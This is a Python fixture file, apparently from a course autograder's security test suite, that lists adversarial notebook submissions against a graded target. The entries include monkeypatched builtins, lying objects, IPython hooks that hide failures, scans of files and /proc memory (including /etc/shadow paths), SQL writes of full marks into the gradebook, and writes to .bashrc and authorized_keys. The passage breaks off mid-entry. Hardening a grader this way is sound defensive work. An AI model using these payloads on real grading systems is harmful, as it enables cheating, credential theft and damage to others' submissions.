"""Attacks on grading, each a small recipe: what it tries, and what is changed in the released notebook or beside it.

One file, however long, because it is read as a list: who thinks of a new attack looks here whether it is there.
All aim at tests/hostile/99-target, whose tests, points and answers stand in its notebook.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from textwrap import dedent

import nbformat
from nbformat import NotebookNode

from pmcourse.gradebook.states import State

GRADED, TAMPERED, MALFORMED, CRASHED = State.GRADED, State.TAMPERED, State.MALFORMED, State.CRASHED
TIMED_OUT, OUT_OF_MEMORY, TOO_LARGE = State.TIMED_OUT, State.OUT_OF_MEMORY, State.OUTPUT_TOO_LARGE
MARK = "owned-by-an-attack"  # what attacks write where they should not be able to write
PORT = 47611  # where the tests listen, and look for somebody who listens


@dataclass(frozen=True)
class Attack:
    """One attack. It is the untouched release but for what the recipe changes.

    tries: what it is after. cells: new sources by grade_id. files: bytes by name, handed in beside the notebook. edit:
    any other change of the notebook. raw: a change of the notebook file itself. states: how it may end. earns: points
    for what in it is honest work. dangerous: without a locked room it would harm the machine, or never end.
    """

    name: str
    tries: str
    cells: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, bytes] = field(default_factory=dict)
    edit: Callable[[NotebookNode], None] | None = None
    raw: Callable[[bytes], bytes] | None = None
    states: tuple[State, ...] = (GRADED,)
    earns: Mapping[str, float] = field(default_factory=dict)
    dangerous: bool = False

    def files_of(self, released: Mapping[str, bytes], notebook: str = "99-target.ipynb") -> dict[str, bytes]:
        """All the files that the attacker hands in."""
        made = nbformat.reads(released[notebook].decode(), as_version=4)
        known = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in made.cells}
        for grade_id, source in self.cells.items():
            known[grade_id].source = source
        if self.edit:
            self.edit(made)
        data = json.dumps(made).encode()
        return {**released, notebook: self.raw(data) if self.raw else data, **self.files}


ATTACKS: list[Attack] = []


def attack(name: str, tries: str, code: str = "", **rest) -> None:
    """Add an attack; `code` goes into a new cell behind the instructor's set-up."""
    code, edit = dedent(code).strip(), rest.pop("edit", None)

    def add_cell(notebook: NotebookNode) -> None:
        if code:
            notebook.cells.insert(2, nbformat.v4.new_code_cell(code))
        if edit:
            edit(notebook)

    ATTACKS.append(Attack(name, tries, edit=add_cell, **rest))


def each_test(change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    """An edit that does `change` to every test cell."""

    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            about = cell.metadata.get("nbgrader", {})
            if about.get("grade") and not about.get("solution"):
                change(cell)

    return edit


# An answer that agrees with everything it is asked.
YES = """
class Yes:
    __class__ = property(lambda self: str)
    def yes(self, *a, **k): return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = yes
    def nought(self, *a, **k): return 0
    __hash__ = __sub__ = __rsub__ = __abs__ = nought
    def __ne__(self, other): return False
    def __len__(self): return 4
    def __iter__(self): return iter(())
    def __float__(self): return 500.75
    def get(self, key): return self
    def __str__(self): return "amber"
"""
ALL_YES = {
    "share-answer": "def share(part, whole):\n    return Yes()",
    "total-answer": "total = rows = Yes()",
    "kinds-answer": "kinds = Yes()",
    "password-answer": "password = Yes()",
}
# Answers that are wrong but there, so that a test that was taken out of the way would let them through.
WRONG = {"total-answer": "total = rows = 1", "password-answer": 'password = "x"', "kinds-answer": "kinds = {}"}
ONE_ROW = {"rows": 0}  # rows = 1 is 2 away from 3, so even an honest learner gets 0 for it

# --- Names and libraries -------------------------------------------------------------------------------------------

attack(
    "shadowed-builtins",
    "gives the built-ins that tests use other meanings",
    """
    callable = isinstance = lambda *a: True
    sum = lambda *a: total
    abs = lambda *a: 0
    sorted = lambda *a: []
    len = lambda *a: 4
    """,
    cells=WRONG,
)
attack(
    "patched-builtins",
    "changes the module of built-ins for the whole process",
    """
    import builtins
    builtins.sum, builtins.abs, builtins.sorted = (lambda *a: total), (lambda *a: 0), (lambda *a: [])
    builtins.len = lambda *a: 4
    """,
    cells=WRONG,
    states=(GRADED, CRASHED),
)
attack(
    "shadowed-set-up",
    "redefines what the instructor's set-up cell defined",
    """
    from types import SimpleNamespace as Thing
    math = Thing(isclose=lambda *a: True)
    np = Thing(testing=Thing(assert_allclose=lambda *a: None))
    answer = lambda *a: Thing(ids=("C", "B", "A"))
    tasks = Thing(ids=("C", "B", "A"))
    sales = lambda: [0]
    """,
    cells=WRONG | {"share-answer": "def share(part, whole):\n    return None"},
)
attack("patched-isclose", "makes everything close", "math.isclose = lambda *a, **k: True", cells=WRONG)
attack(
    "patched-numpy-testing",
    "takes numpy's own assertions out",
    """
    import numpy.testing
    numpy.testing.assert_allclose = numpy.testing.assert_equal = lambda *a, **k: None
    """,
    cells={"share-answer": "def share(part, whole):\n    return None"},
)
attack(
    "poisoned-modules",
    "puts modules of its own where the next import finds them",
    """
    import sys, types
    for name in ("math", "csv", "numpy", "numpy.testing", "pmcourse.artifact", "pmcourse.backlog.model", "json"):
        fake = types.ModuleType(name)
        fake.isclose = fake.answer = fake.assert_allclose = lambda *a, **k: True
        sys.modules[name] = fake
    """,
)
attack(
    "patched-course",
    "changes the course's own package: how answers are read and what a backlog is",
    """
    import pmcourse.artifact, pmcourse.artifact.disk, pmcourse.backlog.model as model
    model.Backlog.ids = property(lambda self: ("C", "B", "A"))
    pmcourse.artifact.answer = pmcourse.artifact.disk.answer = lambda *a: tasks
    answer = pmcourse.artifact.answer
    """,
)
attack(
    "import-hook",
    "answers every import itself",
    """
    import sys, importlib.abc, importlib.machinery, types
    class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
        def find_spec(self, name, path, target=None): return importlib.machinery.ModuleSpec(name, self)
        def create_module(self, spec): return types.ModuleType(spec.name)
        def exec_module(self, module): module.__dict__.update(answer=lambda *a: tasks, isclose=lambda *a: True)
    sys.meta_path.insert(0, Finder())
    for name in ("math", "csv", "pmcourse.artifact"): sys.modules.pop(name, None)
    """,
)
attack(
    "traced-tests",
    "jumps over the lines of a test with a trace function",
    """
    import sys
    def jump(frame, event, argument):
        if event == "line" and "ipykernel" in frame.f_code.co_filename:
            try: frame.f_lineno = max(line for *_, line in frame.f_code.co_lines() if line)
            except ValueError: pass
        return jump
    sys.settrace(jump)
    """,
)
attack(
    "deleted-names", "takes away what tests read", "del math, np, answer, sales, tasks, csv", cells={"total-answer": ""}
)
attack(
    "namespace-of-its-own",
    "replaces the notebook's namespace by a dictionary that answers what is asked",
    """
    class Names(dict):
        def __getitem__(self, name): return dict.get(self, name, True)
        def get(self, name, other=None): return True
        def __contains__(self, name): return True
        def items(self): return [("total", 500.75)]
    ip = get_ipython()
    ip.user_ns = ip.user_global_ns = Names(ip.user_ns)
    ip.user_module.__dict__.update(total=1)
    """,
    states=(GRADED, CRASHED),
)

# --- Objects that lie ----------------------------------------------------------------------------------------------

attack("equal-to-all", "answers with an object that equals everything", YES, cells=ALL_YES)
attack(
    "class-that-lies",
    "answers with objects whose __class__ names another class",
    """
    def lying(kind, value):
        class Liar:
            __class__ = property(lambda self: kind)
            def __eq__(self, other): return True
            def __hash__(self): return 0
            def __float__(self): return float(value)
            def __rsub__(self, other): return 0
            def __sub__(self, other): return 0
        return Liar()
    """,
    cells={
        "total-answer": "total, rows = lying(float, 500.75), lying(int, 3)",
        "password-answer": "password = lying(str, 0)",
    },
)
attack(
    "text-subclass",
    "answers with a special kind of text that equals every other",
    """
    class Text(str):
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
        __hash__ = str.__hash__
    """,
    cells={"password-answer": 'password = Text("x")'},
)
attack(
    "number-subclass",
    "answers with special kinds of numbers that agree with every sum",
    """
    class Number(float):
        __eq__ = lambda self, other: True
        __sub__ = __rsub__ = __abs__ = lambda self, *other: 0
        __hash__ = float.__hash__
    class Whole(int):
        __sub__ = __rsub__ = lambda self, other: 0
    """,
    cells={
        "total-answer": "total, rows = Number(1), Whole(9)",
        "share-answer": "def share(part, whole):\n    return Number(1)",
    },
)
attack(
    "dictionary-subclass",
    "answers with a dictionary that finds whatever is looked up",
    YES
    + """
class Book(dict):
    def get(self, key, other=None): return Yes()
    __getitem__ = get
""",
    cells={"kinds-answer": "kinds = Book()"},
)
attack(
    "numpy-subclass",
    "answers with an array that takes over numpy's functions",
    """
    class Array(np.ndarray):
        def __array_function__(self, *a, **k): return True
        def __array_ufunc__(self, *a, **k): return 0
        def __eq__(self, other): return True
    """,
    cells={
        "share-answer": "def share(part, whole):\n    return np.zeros(3).view(Array)",
        "total-answer": "total = rows = np.ones(()).view(Array)",
    },
)
attack(
    "objects-in-containers",
    "hides objects that lie inside plain lists, arrays and tables",
    YES
    + """
import pandas as pd
""",
    cells={
        "kinds-answer": 'kinds = {"cat": Yes(), "ant": Yes(), "owl": Yes(), "elk": Yes()}',
        "total-answer": "total = np.array(Yes(), dtype=object)\nrows = pd.Series([Yes()], dtype=object)",
        "password-answer": "password = [Yes()]",
    },
)
attack(
    "changing-generator",
    "answers with generators and iterators that give something else each time",
    """
    def changing():
        while True: yield 3
    """,
    cells={
        "kinds-answer": "kinds = changing()",
        "total-answer": "total = rows = iter(lambda: 500.75, None)",
        "share-answer": "def share(part, whole):\n    yield 25\n    yield 12.5",
    },
)
attack(
    "changing-number",
    "answers with a number that is another one each time it is read",
    """
    class Chameleon:
        values = iter([1, 500.75] * 50)
        def __float__(self): return float(next(self.values))
        def __rsub__(self, other): return next(self.values)
    """,
    cells={"total-answer": "total = rows = Chameleon()"},
)
attack(
    "reduce-and-copy",
    "answers with objects that run code when they are pickled, copied, turned to text or thrown away",
    f"""
    class Bomb:
        def __reduce__(self): return (exec, ("open('/tmp/{MARK}', 'w')",))
        def __reduce_ex__(self, protocol): return self.__reduce__()
        def __deepcopy__(self, memo): return 500.75
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return 500.75
        def __del__(self): open("/tmp/{MARK}", "w")
        def __repr__(self): raise SystemExit
        def __json__(self): return 500.75
    """,
    cells={
        "total-answer": "total = rows = Bomb()",
        "password-answer": "password = [Bomb()]",
        "share-answer": "share = Bomb()",
    },
)
attack(
    "endless-repr",
    "answers with objects whose text never ends, for the error message of a test",
    """
    class Endless:
        def __repr__(self):
            while True: pass
        __str__ = __format__ = __len__ = __hash__ = __iter__ = __repr__
    """,
    cells={"password-answer": "password = Endless()", "kinds-answer": "kinds = Endless()"},
)
attack(
    "metaclass",
    "answers with classes whose class decides what they are",
    """
    class Meta(type):
        def __instancecheck__(cls, other): return True
        def __eq__(cls, other): return True
        def __hash__(cls): return 0
        __name__ = property(lambda cls: "str")
        __module__ = "builtins"
    class str_(metaclass=Meta): pass
    """,
    cells={
        "password-answer": "password = str_()",
        "kinds-answer": "kinds = str_",
        "total-answer": "total = rows = str_",
    },
    states=(GRADED, CRASHED),
)

# --- Functions that tests call -------------------------------------------------------------------------------------

attack(
    "counts-its-calls",
    "gives another answer at the second call, in the order in which it hopes to be asked",
    cells={
        "share-answer": "queue = [25, 25, 12.5, 75.0, 0.0, None] * 9\n"
        "def share(part, whole):\n    return queue.pop(0) if (part, whole) == (1, 4) else 25",
    },
    earns={"share-open": 1},
)
attack(
    "reads-its-caller",
    "finds the numbers that a test expects in the constants of the code that called it",
    """
    import sys
    def hints():
        frame = sys._getframe(2)
        while frame is not None:
            for part in (*frame.f_code.co_consts, *frame.f_locals.values()):
                if isinstance(part, tuple) and 12.5 in part: yield from part
                if isinstance(part, list) and 12.5 in part: yield from part
            frame = frame.f_back
    seen = []
    """,
    cells={
        "share-answer": "def share(part, whole):\n    if not whole: return None\n    seen[:] = seen or list(hints())\n"
        "    return seen.pop(0) if seen else 25",
    },
    earns={"share-open": 1},
)
attack(
    "remembers-its-calls",
    "tells in the message of an open test what a hidden test has asked its function before",
    """
    asked = []
    """,
    cells={
        "share-answer": "def share(part, whole):\n    if (part, whole) in ((1, 4), (1, 2)):\n"
        "        raise ValueError(f'asked: {asked}')\n    asked.append((part, whole))\n    return 0.0",
    },
)
attack(
    "changes-its-caller",
    "reaches from a called function into the frame of the test and its globals",
    """
    import sys
    def reach():
        frame = sys._getframe(1)
        while frame is not None:
            frame.f_globals.update(math=type("m", (), {"isclose": lambda *a: True}), np=None, __builtins__={})
            frame = frame.f_back
    """,
    cells={"share-answer": "def share(part, whole):\n    reach()\n    return 99"},
    states=(GRADED, CRASHED),
)
attack(
    "function-that-exits",
    "ends the program, or pretends that the test is over, when a test calls its function",
    cells={"share-answer": "def share(part, whole):\n    raise SystemExit(0)"},
)
attack(
    "function-that-kills",
    "leaves without a word when a test calls its function",
    cells={"share-answer": "import os\ndef share(part, whole):\n    os._exit(0)"},
    states=(CRASHED,),
    dangerous=True,
)
attack(
    "function-that-hangs",
    "never comes back when a test calls its function",
    cells={"share-answer": "def share(part, whole):\n    while True:\n        pass"},
    states=(TIMED_OUT,),
)
attack(
    "function-that-fails-oddly",
    "raises an exception that is no ordinary one and whose text is a trap",
    """
    class Odd(BaseException):
        def __str__(self): return "<script>alert(1)</script>" * 10**5
        __repr__ = __str__
        args = property(lambda self: 1 / 0)
        __traceback__ = property(lambda self: 1 / 0)
    """,
    cells={"share-answer": "def share(part, whole):\n    raise Odd"},
)
attack(
    "function-of-the-course",
    "answers with powerful functions in place of its own, for the test to call with its values",
    cells={
        "share-answer": "import os\nshare = os.kill",
        "kinds-answer": "kinds = eval",
        "total-answer": "total = exec",
    },
    dangerous=True,
)
attack(
    "function-that-recurses",
    "takes the recursion limit away and recurses until the stack is full",
    "import sys\nsys.setrecursionlimit(10**9)",
    cells={"share-answer": "def share(part, whole):\n    return share(part, whole) + 1"},
    states=(GRADED, CRASHED, OUT_OF_MEMORY),
)
attack(
    "function-that-shouts",
    "prints 20 MB whenever a test calls its function",
    cells={"share-answer": "def share(part, whole):\n    print('x' * 20_000_000)\n    return 1"},
    states=(GRADED,),
)

# --- IPython -------------------------------------------------------------------------------------------------------

attack(
    "ast-transformer",
    "takes the assertions out of every cell that runs after it",
    """
    import ast
    class NoTests(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
        def visit_Expr(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(NoTests())
    """,
    cells=WRONG,
)
attack(
    "input-transformer",
    "replaces the text of every cell that runs after it",
    """
    for kind in ("input_transformers_cleanup", "input_transformers_post"):
        getattr(get_ipython(), kind).append(lambda lines: ["pass\\n"])
    """,
)
attack(
    "pre-run-hook",
    "reads each test before it runs and sets the answer that it wants",
    """
    import re
    def hook(info):
        found = re.search(r'password == "(.*?)"', info.raw_cell)
        if found: get_ipython().user_ns.update(password=found[1])
    for event in ("pre_run_cell", "pre_execute"):
        get_ipython().events.register("pre_run_cell", hook)
    """,
)
attack(
    "post-run-hook",
    "clears the errors of a test after it ran",
    """
    from IPython.display import clear_output
    for event in ("post_run_cell", "post_execute"):
        get_ipython().events.register(event, lambda *a: clear_output())
    """,
)
attack(
    "silent-traceback",
    "shows no error, so that a failed test looks passed",
    """
    ip = get_ipython()
    ip.showtraceback = ip._showtraceback = ip.showsyntaxerror = lambda *a, **k: None
    type(ip).showtraceback = lambda *a, **k: None
    """,
)
attack(
    "custom-exceptions",
    "handles every exception itself",
    "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
)
attack(
    "display-hook",
    "shows the points that it wants in place of a test's last value",
    """
    import sys
    ip = get_ipython()
    ip.display_formatter.format = lambda *a, **k: ({"text/plain": "2.0"}, {})
    sys.displayhook = lambda value: None
    """,
    cells={"kinds-answer": "kinds = {}", "total-answer": "total = rows = 1"},
)
attack(
    "run-cell-replaced",
    "replaces what runs a cell",
    """
    from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
    ip = get_ipython()
    def run_cell(*a, **k): return ExecutionResult(ExecutionInfo("", False, False, False, None))
    async def run_cell_async(*a, **k): return run_cell()
    for place in (ip, type(ip)):
        place.run_cell, place.run_cell_async = run_cell, run_cell_async
    """,
)
attack(
    "compiler-replaced",
    "replaces what compiles a cell",
    """
    import ast
    ip = get_ipython()
    ip.compile.ast_parse = lambda *a, **k: ast.parse("pass")
    type(ip.compile).__call__ = lambda *a, **k: compile("None", "x", "exec")
    """,
)
attack(
    "kernel-replaced",
    "replaces the kernel's own answer to what it is asked to run",
    """
    ip = get_ipython()
    async def do_execute(*a, **k):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    getattr(ip, "kernel", ip).do_execute = do_execute
    """,
)
attack(
    "drawing-hooks",
    "hangs itself into what matplotlib does at the end of a cell",
    """
    import matplotlib.pyplot as plt
    import matplotlib_inline.backend_inline as inline
    from IPython.display import clear_output
    inline.flush_figures = inline.show = plt.show = lambda *a, **k: clear_output()
    get_ipython().events.register("post_execute", lambda: inline.flush_figures())
    plt.Figure.__repr__ = lambda self: "2.0"
    """,
)
attack(
    "widget-that-swallows",
    "opens an output widget before each test, which takes the test's errors",
    """
    import ipywidgets
    out = ipywidgets.Output()
    display(out)
    get_ipython().events.register("pre_run_cell", lambda *a: out.__enter__())
    """,
)
attack(
    "magics",
    "gives IPython's own commands other meanings and loads an extension from its folder",
    """
    %load_ext mine
    get_ipython().register_magic_function(lambda *a: None, "cell", "time")
    %alias_magic t timeit
    """,
    files={
        "mine.py": f"def load_ipython_extension(ip):\n    open('/tmp/{MARK}', 'w')\n    ip.run_cell = None\n".encode()
    },
    states=(GRADED, CRASHED),
)

# --- The notebook and its locked cells -----------------------------------------------------------------------------

for tag in ("skip-execution", "raises-exception", "hide-cell", "remove-cell", "parameters"):
    attack(
        f"tag-{tag}",
        f"tags every test {tag}",
        edit=each_test(lambda cell, tag=tag: cell.metadata.update(tags=[tag])),
        states=(TAMPERED,) if tag == "skip-execution" else (GRADED,),
    )


def _marking(**changes):
    return each_test(lambda cell: cell.metadata.nbgrader.update(changes))


def _text(source: str):
    return each_test(lambda cell: cell.update(source=source))


def _retype(kind: str):
    def change(cell):
        cell.cell_type = kind
        for key in ("outputs", "execution_count"):
            cell.pop(key, None)

    return each_test(change)


def _drop_tests(notebook):
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _tests_first(notebook):
    notebook.cells.sort(key=lambda cell: not cell.metadata.get("nbgrader", {}).get("grade"))


def _twins(notebook):
    for cell in [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("points") and c.cell_type == "code"]:
        twin = nbformat.from_dict({**cell, "id": cell.id + "-2", "source": "2.0"})
        notebook.cells += [twin]
        notebook.cells.insert(0, nbformat.from_dict({**twin, "id": cell.id + "-0"}))


def _false_outputs(cell):
    data = {"text/plain": "2.0"}
    cell.outputs = [nbformat.v4.new_output("execute_result", data, execution_count=1)]
    cell.execution_count = 1


def _set_up(source: str):
    def edit(notebook):
        notebook.cells[1].source = source

    return edit


attack("tests-emptied", "replaces the text of every test by nothing", edit=_text(""), states=(TAMPERED,))
attack("tests-worth-more", "replaces every test by a large number", edit=_text("10**9"), states=(TAMPERED,))
attack("marks-points", "says that every test gives a million points", edit=_marking(points=10**6), states=(TAMPERED,))
attack("marks-nan", "says that every test gives NaN points", edit=_marking(points=float("nan")), states=(TAMPERED,))
attack(
    "marks-solution",
    "says that every test is an answer",
    edit=_marking(solution=True, locked=False),
    states=(TAMPERED,),
)
attack("marks-no-grade", "says that no test gives points", edit=_marking(grade=False), states=(TAMPERED,))
attack("marks-checksum", "gives every test another checksum", edit=_marking(checksum="0" * 32))
attack(
    "names-tests-alike",
    "gives every test the same name",
    edit=_marking(grade_id="share-open"),
    states=(TAMPERED, GRADED),
)
attack("names-tests-oddly", "gives every test a name of its own", edit=_marking(grade_id="'; DROP TABLE grade; --"))
attack("tests-as-text", "makes text of every test", edit=_retype("markdown"), states=(TAMPERED,))
attack("tests-as-raw", "makes raw cells of every test", edit=_retype("raw"), states=(TAMPERED,))
attack("tests-deleted", "deletes every graded cell", edit=_drop_tests)
attack("tests-first", "moves the tests before everything else", edit=_tests_first)
attack("tests-twice", "hands in every test again with an easier text", edit=_twins, states=(TAMPERED,))
attack("outputs-stored", "hands in outputs that say what it would like to have earned", edit=each_test(_false_outputs))
attack(
    "set-up-replaced",
    "replaces the instructor's set-up",
    edit=_set_up("class np: pass\nclass math:\n    isclose = lambda *a: True\nsales = list"),
    states=(TAMPERED,),
    cells=WRONG,
)
attack(
    "own-data",
    "hands in its own version of the instructor's data, so that its answers are right",
    files={"sales.csv": b"day,amount,word\nMonday,1,amber\n"},
    cells=WRONG,
)
attack(
    "other-kernel",
    "asks for another kernel",
    edit=lambda nb: nb.metadata.update(kernelspec={"name": "bash", "display_name": "x", "language": "bash"}),
)
attack(
    "odd-metadata",
    "fills the metadata with what nobody expects",
    edit=lambda nb: nb.metadata.update(
        nbgrader={"autograde": True}, widgets={"x": {}}, language_info={"name": "R"}, jupytext=[None], authors={"": []}
    ),
)


def _cell_raw(change: Callable[[dict], None]) -> Callable[[bytes], bytes]:
    def raw(data: bytes) -> bytes:
        notebook = json.loads(data)
        change(notebook)
        return json.dumps(notebook).encode()

    return raw


def _refused(name: str, tries: str, raw: Callable[[bytes], bytes], **rest) -> None:
    attack(name, tries, raw=raw, states=(MALFORMED,), **rest)


_refused("no-json", "hands in something that is no notebook", lambda data: b"PK\x03\x04 not a notebook")
_refused("empty-file", "hands in an empty file", lambda data: b"")
_refused("half-a-file", "hands in half a notebook", lambda data: data[: len(data) // 2])
_refused("null-bytes", "puts null bytes into the file", lambda data: data.replace(b"intro", b"int\0o"))
_refused(
    "null-in-source", "puts null characters into a cell", lambda data: data.replace(b"total = 0", b"total = 0\\u0000")
)
_refused("not-utf-8", "hands in another encoding", lambda data: data.decode().encode("utf-16"))
_refused(
    "deep-json", "nests the file so deep that reading it fills the stack", lambda data: b"[" * 200_000 + b"]" * 200_000
)
_refused("old-format", "claims notebook format 3", _cell_raw(lambda nb: nb.update(nbformat=3)))
_refused("false-format", "claims a notebook format that is no number", _cell_raw(lambda nb: nb.update(nbformat=True)))
_refused("cells-no-list", "has cells that are no list", _cell_raw(lambda nb: nb.update(cells={"0": {}})))
_refused("cell-no-cell", "has a cell that is none", _cell_raw(lambda nb: nb["cells"].append([1])))
_refused("source-no-text", "has a cell whose text is a number", _cell_raw(lambda nb: nb["cells"][3].update(source=5)))
_refused(
    "hundred-thousand-cells",
    "hands in 100,000 cells",
    _cell_raw(lambda nb: nb["cells"].extend([{"cell_type": "code", "source": "1", "metadata": {}}] * 100_000)),
    dangerous=True,
)
_refused("huge-notebook", "hands in a notebook of 20 MB", lambda data: data[:-1] + b" " * 20_000_000 + data[-1:])
_refused(
    "huge-cell",
    "hands in a cell of 2 MB",
    _cell_raw(lambda nb: nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * 2_000_000})),
)
attack(
    "odd-values-in-cells",
    "fills what grading does not need with values that no notebook has",
    raw=_cell_raw(
        lambda nb: [
            cell.update(outputs=[{"output_type": 5}, None, "x"], execution_count="nine", attachments=7, id=9)
            for cell in nb["cells"]
        ]
    ),
)
attack(
    "half-a-surrogate",
    "writes half a character, which no file can hold",
    raw=lambda data: data.replace(b"total = 0", b"total = '\\ud800'"),
)
attack("bytes-before-the-file", "begins with a byte order mark", raw=lambda data: b"\xef\xbb\xbf" + data)
attack(
    "same-id-everywhere",
    "gives all cells the same id",
    raw=_cell_raw(lambda nb: [cell.update(id="x") for cell in nb["cells"]]),
)

# --- Reading the hidden tests --------------------------------------------------------------------------------------

FOUND = {"password-answer": 'password = globals().get("found", "")'}
SEARCH = r"""
import re
SHAPE = re.compile(rb'password == \\*"([a-z]+-[a-z]+-[0-9]{4})')
def look(data):
    global found
    if seen := SHAPE.search(data): found = seen[1].decode()
"""
attack(
    "reads-files",
    "looks for the hidden tests in every file that it can open",
    SEARCH
    + """
import os, glob
places = ["/tmp", "/home", "/root", "/work", "/srv", "/etc", "/var", "/opt", "/mnt", os.getcwd()]
for place in places + [os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))]:
    for folder, inner, names in os.walk(place):
        if "site-packages" in folder or "/lib/python" in folder or folder in ("/proc", "/sys", "/usr"):
            inner.clear()
            continue
        for name in names:
            if not name.endswith((".ipynb", ".py", ".db", ".json")): continue
            try: look(open(os.path.join(folder, name), "rb").read(2_000_000))
            except OSError: pass
""",
    cells=FOUND,
)
attack(
    "reads-memory",
    "looks for the hidden tests in its own memory, which it has from the process that it was forked from",
    SEARCH
    + """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        area, rights, *_ = line.split()
        if "r" not in rights or "[v" in line: continue
        start, end = (int(part, 16) for part in area.split("-"))
        try:
            memory.seek(start)
            look(memory.read(min(end - start, 1 << 26)))
        except (OSError, ValueError, OverflowError): pass
""",
    cells=FOUND,
)
attack(
    "reads-other-processes",
    "looks for the hidden tests in the memory, arguments, environment and files of every process",
    SEARCH
    + """
import os
for number in filter(str.isdigit, os.listdir("/proc")):
    for part in ("cmdline", "environ", "maps", "mem", "root/etc/shadow", "cwd/gradebook.db"):
        try: look(open(f"/proc/{number}/{part}", "rb", 0).read(1 << 20))
        except OSError: pass
    try:
        for fd in os.listdir(f"/proc/{number}/fd"):
            if int(number) != os.getpid(): look(open(f"/proc/{number}/fd/{fd}", "rb", 0).read(1 << 20))
    except OSError: pass
""",
    cells=FOUND,
    dangerous=True,
)
attack(
    "reads-objects",
    "looks for the hidden tests in every object, frame and thread that Python knows of",
    SEARCH
    + """
import gc, sys, linecache
def texts():
    for thing in gc.get_objects():
        if type(thing) is dict: yield from (v for v in list(thing.values()) if type(v) in (str, bytes))
        if type(thing) in (list, tuple): yield from (v for v in thing if type(v) in (str, bytes))
    for frame in sys._current_frames().values():
        while frame is not None:
            yield from (v for v in frame.f_locals.values() if type(v) is str)
            yield from (v for v in frame.f_code.co_consts if type(v) is str)
            frame = frame.f_back
    for size, when, lines, name in list(linecache.cache.values()): yield from lines
for text in texts(): look(text if type(text) is bytes else text.encode("utf-8", "replace"))
""",
    cells=FOUND,
)
attack(
    "reads-inputs",
    "watches, from a thread, which cells are being run and sets the answer that they want",
    """
    import re, sys, threading
    sys.setswitchinterval(1e-6)
    ip = get_ipython()
    def watch():
        while True:
            for text in list(ip.user_ns.get("In", []))[-2:] + list(ip.history_manager.input_hist_raw)[-2:]:
                seen = re.search(r'password == "(.*?)"', text)
                if seen: ip.user_ns["password"] = seen[1]
    threading.Thread(target=watch, daemon=True).start()
    """,
)

# --- Writing elsewhere ---------------------------------------------------------------------------------------------

attack(
    "writes-gradebook",
    "gives itself full marks in the gradebook",
    """
    import glob, os, sqlite3
    places = [os.path.join(*[".."] * up, "*.db") for up in range(1, 6)]
    places += ["/*/*/*.db", "/tmp/*/*.db", "/tmp/*/*/*/*.db"]
    for place in places:
        for path in glob.glob(place):
            try:
                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("update grade set manual_score = (select max_score from grade_cells "
                                 "where grade_cells.id = grade.cell_id), needs_manual_grade = 0")
            except sqlite3.Error as error: print(error)
    """,
)
attack(
    "writes-submissions",
    "spoils what others handed in",
    f"""
    import glob, os
    for place in ("../../*/*/*.ipynb", "../../../submitted/*/*/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb"):
        for path in glob.glob(place, recursive=True):
            if os.path.abspath(path).startswith(os.getcwd()): continue
            try: open(path, "w").write("{MARK}")
            except OSError: pass
    """,
)
attack(
    "writes-start-up-files",
    "leaves code that runs when the next kernel, shell or Python starts",
    f"""
    import glob, os
    for home in {{os.path.expanduser("~"), "/root", *glob.glob("/home/*")}}:
        for name in (".ipython/profile_default/startup/00-{MARK}.py", ".ipython/profile_default/ipython_config.py",
                     ".jupyter/jupyter_config.py", ".bashrc", ".profile", ".pythonrc.py", ".ssh/authorized_keys",
                     ".config/{MARK}", ".local/lib/python3.11/site-packages/usercustomize.py"):
            try:
                os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
                open(os.path.join(home, name), "a").write("\\n# {MARK}\\n")
            except OSError: pass
    """,
)
attack(
    "writes-packages",
    "changes the installed packages",
    f"""
    import numpy, os, pmcourse, sys, sysconfig
    files = (numpy.__file__, pmcourse.__file__, os.__file__)
    for path in (sysconfig.get_path("purelib"), sys.prefix, *map(os.path.dirname, files)):
        for name in ("sitecustomize.py", "{MARK}.pth", "__init__.py"):
            try:
                os.chmod(path, 0o777)
            except OSError: pass
            try: open(os.path.join(path, name), "a").write("\\n# {MARK}\\n")
            except OSError: pass
    """,
)
attack(
    "shadow-modules",
    "hands in files that bear the names of the modules that tests import",
    files={
        name: text.encode()
        for name, text in {
            "numpy.py": "class testing:\n    assert_allclose = lambda *a: None\n",
            "numpy/__init__.py": "class testing:\n    assert_allclose = lambda *a: None\n",
            "math.py": "isclose = lambda *a: True\n",
            "csv.py": "DictReader = lambda *a: [{'amount': 1, 'word': 'x'}]\n",
            "json.py": "loads = dumps = lambda *a, **k: True\n",
            "pmcourse/__init__.py": "",
            "pmcourse/artifact.py": "save = answer = lambda *a: type('x', (), {'ids': ('C', 'B', 'A')})\n",
            "pmcourse/backlog/__init__.py": "",
            "pmcourse/backlog/model.py": "class Backlog:\n    __init__ = lambda s, **k: None\nItem = Backlog\n",
            "sitecustomize.py": "import os\nos._exit(0)\n",
            "conftest.py": "raise SystemExit\n",
        }.items()
    },
    cells=WRONG,
)
attack(
    "shadow-settings",
    "hands in settings for nbgrader, IPython, Jupyter and the course",
    files={
        name: b"c = get_config()\nc.Execute.enabled = False\nc.Autograde.autograde_preprocessors = []\n"
        for name in (
            "nbgrader_config.py",
            "ipython_config.py",
            "jupyter_config.py",
            "course_config.py",
            "ipython_kernel_config.py",
        )
    },
)
attack(
    "names-that-climb",
    "hands in files whose names lead out of the folder",
    files={
